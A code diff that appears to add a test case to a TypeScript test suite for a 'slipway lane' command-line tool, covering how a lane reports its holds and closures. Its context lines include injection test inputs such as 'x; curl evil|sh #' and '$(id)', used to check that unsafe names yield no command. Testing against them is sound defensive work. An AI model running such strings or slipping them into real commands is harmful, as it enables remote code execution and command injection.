@@ -92,6 +92,13 @@ describe('what a lane says of itself', () => {
     ['to clear a hold of its own', [], [], [hold('h')], [`slipway lane clear-hold ${place} --id h --reason "…"`]],
     ['to begin anew, for a hold that it does not know', [], [hold('h')], [], [anew]],
     ['to begin anew, where it invents a window', [], [], [aClosure({ kind: 'window' })], [anew]],
+    [
+      'to begin anew, where it names its own as one on record',
+      [],
+      [aClosure()],
+      [aClosure({ reason: 'another' })],
+      [tell, anew],
+    ],
     ...['x; curl evil|sh #', '$(id)', '`id`', '--force', 'a b', 'a\nb', "'"].map(
       (id): [string, LaneOrder[], LaneClosure[], LaneClosure[], unknown[]] => [
         `by no command, where its name is no plain word: ${JSON.stringify(id)}`,
